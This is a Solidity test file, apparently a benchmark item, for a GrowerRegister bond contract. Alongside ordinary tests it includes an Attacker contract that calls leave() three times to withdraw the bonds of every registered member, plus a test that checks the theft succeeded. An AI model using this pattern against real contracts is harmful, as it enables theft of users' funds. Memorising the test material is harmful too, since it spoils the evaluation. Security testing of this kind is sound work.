// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./GrowerRegister.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-d1e7e63b-1b44-42a8-a392-380adef069ba

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 10_000e18);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);
    address private constant DAN = address(0xDA7);

    Coin private coin;
    GrowerRegister private register;
    Attacker private mallory;

    function setUp() public {
        coin = new Coin();
        register = new GrowerRegister(coin, 100e18);
        enter(ANA);
        enter(BEN);
        enter(CAT);
        mallory = new Attacker(register);
    }

    function enter(address grower) private {
        coin.transfer(grower, 150e18);
        vm.startPrank(grower);
        coin.approve(address(register), 100e18);
        register.join();
        vm.stopPrank();
    }

    function test_Regular() public {
        require(register.isGrower(ANA) && coin.balanceOf(ANA) == 50e18, "joined");
        vm.prank(ANA);
        register.leave(DAN);
        require(!register.isGrower(ANA) && coin.balanceOf(DAN) == 100e18, "left");
        vm.prank(BEN);
        register.handOver(ANA);
        require(register.isGrower(ANA) && !register.isGrower(BEN), "handed over");
        address[] memory two = register.page(0, 2);
        require(two[0] == CAT && two[1] == ANA, "listed");
        vm.prank(ANA);
        register.leave(ANA);
        require(coin.balanceOf(ANA) == 150e18 && coin.balanceOf(address(register)) == 100e18, "returned");
    }

    function test_RefusesGrowers() public {
        vm.expectRevert(GrowerRegister.NoBond.selector);
        new GrowerRegister(coin, 0);
        vm.startPrank(ANA);
        vm.expectRevert(GrowerRegister.NoAccount.selector);
        register.leave(address(0));
        vm.expectRevert(GrowerRegister.NoAccount.selector);
        register.handOver(address(0));
        vm.expectRevert(abi.encodeWithSelector(GrowerRegister.Listed.selector, BEN));
        register.handOver(BEN);
        coin.approve(address(register), 100e18);
        coin.approve(DAN, 0);
        vm.stopPrank();
        coin.transfer(ANA, 100e18);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(GrowerRegister.Listed.selector, ANA));
        register.join();
        vm.prank(DAN);
        vm.expectRevert(abi.encodeWithSelector(GrowerRegister.NotListed.selector, DAN));
        register.handOver(ANA);
        vm.prank(DAN);
        vm.expectRevert(abi.encodeWithSelector(GrowerRegister.NotListed.selector, DAN));
        register.handOver(DAN);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(coin.balanceOf(address(mallory)) >= 300e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(register);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function token() public view returns (address) {
        return address(coin);
    }
}

contract Attacker {
    GrowerRegister private register;

    constructor(GrowerRegister r) {
        register = r;
    }

    function run() external {
        for (uint256 i = 0; i < 3; i++) {
            register.leave(address(this));
        }
    }
}
